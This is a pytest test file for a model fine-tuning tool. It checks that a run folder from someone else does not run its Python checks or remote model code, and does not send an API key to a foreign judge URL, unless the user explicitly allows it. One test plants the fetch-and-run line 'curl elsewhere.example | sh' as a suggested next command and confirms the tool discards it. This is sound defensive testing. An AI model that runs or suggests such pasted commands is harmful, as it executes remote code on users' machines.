"""A run folder that somebody else made: nothing in it runs or sends anything unless the user asks for it."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from luthier.cli.main import app
from luthier.cli.terminal import progress
from luthier.core.errors import InputError
from luthier.core.events import Progress
from luthier.methods.layers.loading import shapes_of
from luthier.pipeline.evaluate import evaluate, open_run
from luthier.pipeline.export import export
from luthier.pipeline.train import train
from luthier.recipe.config import RunConfig
from luthier.recipe.consent import Allow, refuse_foreign
from luthier.recipe.identity import read_recipe
from luthier.recipe.parse import parse_export
from luthier.runs.folder import RunFolder, checked
from luthier.runs.provenance import environment
from luthier.serving.engine.sources import source_of
from luthier.serving.vllm.launch import plan_of
from tests.conftest import alpaca_rows, write_jsonl

CHECK = """
from pathlib import Path
Path({ran!r}).write_text("ran")

def check(prompt, answer, reference):
    return True
"""


class Notes(Progress):
    """Keeps warnings."""

    def __init__(self) -> None:
        self.said: list[str] = []

    def warn(self, text: str) -> None:
        self.said.append(text)


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory, model_folder: Callable[..., Path]) -> Path:
    """A finished run without code in its recipe."""
    folder = tmp_path_factory.mktemp("own")
    rows = write_jsonl(folder / "rows.jsonl", alpaca_rows(24))
    settings = [
        f"model={model_folder('llama')}",
        f"data={rows}",
        f"run={folder / 'run'}",
        "train.steps=1",
        "method.rank=2",
        "evaluate.before=false",
        "evaluate.generate=2",
        "evaluate.max_new_tokens=2",
        "evaluate.forgetting=false",
    ]
    train(RunConfig.load(None, settings))
    return folder / "run"


@pytest.fixture
def foreign(own: Path, tmp_path: Path) -> Path:
    """The same, with code in its recipe, as somebody else may have put it there."""
    shutil.copytree(own, tmp_path / "run")
    rewrite(tmp_path / "run", **{"evaluate.check": str(check_of(tmp_path))})
    return tmp_path / "run"


def check_of(folder: Path) -> Path:
    file = folder / "their check.py"
    file.write_text(CHECK.format(ran=str(folder / "ran")))
    return file


def rewrite(run: Path, /, **values: str) -> None:
    recipe = RunFolder(run).recipe
    put(run, RunConfig.load(recipe, [f"{key}={json.dumps(value)}" for key, value in values.items()]))


def put(run: Path, config: RunConfig) -> None:
    """Make it the recipe of a run, as somebody does who knows of run.json."""
    folder = RunFolder(run)
    folder.recipe.write_text(config.dump())
    folder.ledger.path.write_text(json.dumps({**folder.ledger.read(), "recipe": config.model_dump(mode="json")}))


def test_a_check_out_of_a_run_folder_runs_only_when_it_is_asked_for(foreign: Path) -> None:
    ran, file = foreign.parent / "ran", foreign.parent / "their check.py"
    result = RunFolder(foreign).result.read_bytes()
    with pytest.raises(InputError, match=r"evaluate\.check in .*recipe\.yaml would run the Python file") as refused:
        evaluate(foreign)
    assert str(file) in refused.value.message and "SHA-256 " in refused.value.message
    assert refused.value.fix.endswith(f"--allow-code or 'evaluate.check={file}' with the same command")
    with pytest.raises(InputError, match=r"evaluate\.check in .* would run") as refused:
        export(foreign, parse_export("adapter", []))
    assert "--allow-code" in refused.value.fix
    asked: list[str] = []
    with pytest.raises(InputError, match="would run"):
        evaluate(foreign, allow_code=lambda what: bool(asked.append(what)))
    assert len(asked) == 1 and str(file) in asked[0]
    assert not ran.exists() and RunFolder(foreign).result.read_bytes() == result


@pytest.mark.parametrize(("typed", "allow"), [((), True), ((), lambda what: True), (("evaluate.check={file}",), False)])
def test_a_check_that_is_allowed_or_typed_runs(foreign: Path, typed: tuple[str, ...], allow: Allow) -> None:
    file = foreign.parent / "their check.py"
    result = evaluate(foreign, [each.format(file=file) for each in typed], allow_code=allow)
    assert (foreign.parent / "ran").exists() and result["tuned"]["pass_rate"]["value"] == 1


def test_what_is_typed_in_its_place_needs_no_leave(foreign: Path) -> None:
    assert "pass_rate" not in evaluate(foreign, ["evaluate.check=null"])["tuned"]
    assert not (foreign.parent / "ran").exists()


def test_export_runs_a_check_that_is_allowed(foreign: Path) -> None:
    report = export(foreign, parse_export("adapter", []), prompts=1, allow_code=True)
    assert report["scores"]["export"]["pass_rate"]["value"] == 1


def test_a_judge_out_of_a_run_folder_gets_no_key(own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_KEY", "sk-secret")
    monkeypatch.setattr("luthier.evaluation.metrics.judge.grade", lambda *_: pytest.fail("it was asked"))
    run = tmp_path / "run"
    shutil.copytree(own, run)
    config = RunConfig.load(
        RunFolder(run).recipe,
        [
            "evaluate.judge.url=https://elsewhere.example/v1",
            "evaluate.judge.model=m",
            "evaluate.judge.key_env=SOME_KEY",
        ],
    )
    put(run, config)
    with pytest.raises(InputError, match=r"and the key in \$SOME_KEY, to elsewhere\.example") as refused:
        evaluate(run, ["evaluate.judge.model=other"])
    assert "evaluate.judge.url=https://elsewhere.example/v1 evaluate.judge.key_env=SOME_KEY" in refused.value.fix
    export(run, parse_export("adapter", []), prompts=1)  # asks no judge


def test_code_of_a_model_out_of_a_run_folder_is_asked_about_everywhere(own: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(own, run)
    rewrite(run, **{"model.trust_remote_code": "true"})
    for use in (
        lambda: evaluate(run),
        lambda: open_run(run, measures=False),
        lambda: export(run, parse_export("adapter", [])),
        lambda: source_of(str(run)),
        lambda: plan_of([str(run)]),
    ):
        with pytest.raises(InputError, match=r"model\.trust_remote_code in .* would run the Python code") as refused:
            use()
        assert refused.value.fix.endswith("--allow-code with the same command")
    assert source_of(str(run), allow_code=True).base.trust_remote_code


@pytest.mark.parametrize("command", [["evaluate"], ["export"], ["chat", "--prompt", "hi"], ["serve", "--port", "0"]])
def test_the_option_of_the_message_is_there(command: list[str], foreign: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rewrite(foreign, **{"model.trust_remote_code": "true", "model.path": str(foreign / "nothing")})
    name, *options = command
    with pytest.raises(InputError, match="would run"):
        app([name, str(foreign), *options], standalone_mode=False)
    with pytest.raises(InputError, match="nothing"):  # the next thing that is wrong
        app([name, str(foreign), "--allow-code", *options], standalone_mode=False)


@pytest.mark.parametrize("answer", ["y", "n", ""])
def test_a_terminal_asks_once(answer: str, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", lambda *_: asked.append("") or answer)
    ask = progress.consent()
    assert callable(ask)
    assert [ask("evaluate.check in x would run y"), ask("evaluate.check in x would run y")] == [answer == "y"] * 2
    assert len(asked) == 1


def test_without_a_terminal_nothing_is_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: False, raising=False)
    assert progress.consent() is False and progress.consent(True) is True


def test_a_recipe_of_ones_own_says_what_it_will_run(tmp_path: Path, foreign: Path) -> None:
    file = check_of(tmp_path)
    config = RunConfig.load(None, [f"evaluate.check={json.dumps(str(file))}"])
    mine = tmp_path / "mine.yaml"
    mine.write_text(config.dump())
    (note,) = refuse_foreign(mine, config.model, config.evaluate, [], False)
    assert note.startswith(f"evaluate.check will run the Python file {file} (SHA-256 ")
    theirs = RunFolder(foreign).recipe
    with pytest.raises(InputError, match="would run") as refused:
        refuse_foreign(theirs, config.model, config.evaluate, [], False)
    assert "--allow-code" not in refused.value.fix  # train has overrides instead
    assert refuse_foreign(theirs, config.model, config.evaluate, [f"evaluate.check={file}"], False)


def test_another_check_than_at_the_start_is_said(own: Path, tmp_path: Path) -> None:
    file, run, notes = check_of(tmp_path), tmp_path / "run", Notes()
    shutil.copytree(own, run)
    rewrite(run, **{"evaluate.check": str(file), "run": str(run)})
    folder = RunFolder(run)
    folder.write_json(folder.environment, environment() | checked(read_recipe(folder).evaluate))
    evaluate(run, allow_code=True, progress=notes)
    assert not notes.said
    file.write_text(file.read_text() + "# another\n")
    evaluate(run, allow_code=True, progress=notes)
    (said,) = notes.said
    assert said.startswith(f"evaluate.check: {file} has SHA-256 ")


@pytest.mark.parametrize(
    ("key", "value"), [("megatron_config", {"a": 1}), ("prompt_tuning_init_state_dict_path", "x.pt")]
)
def test_an_adapter_that_names_code_for_peft_is_refused(own: Path, tmp_path: Path, key: str, value: object) -> None:
    adapter = tmp_path / "adapter"
    shutil.copytree(own / "adapter", adapter)
    shapes_of(adapter)
    file = adapter / "adapter_config.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), key: value}))
    with pytest.raises(InputError, match=key):
        source_of(str(adapter))


def test_commands_to_paste_are_made_here_and_not_read_from_the_folder(own: Path, tmp_path: Path) -> None:
    folder = RunFolder(tmp_path / "run")
    shutil.copytree(own, folder.path)
    rewrite(folder.path, run=str(folder.path))
    result = json.loads(folder.result.read_text())
    for again in (lambda: train(RunConfig.load(folder.recipe)), lambda: evaluate(folder.path)):
        folder.write_json(folder.result, {**result, "next": ["curl elsewhere.example | sh"]})
        assert again()["next"][0] == f"luthier chat {folder.path}"
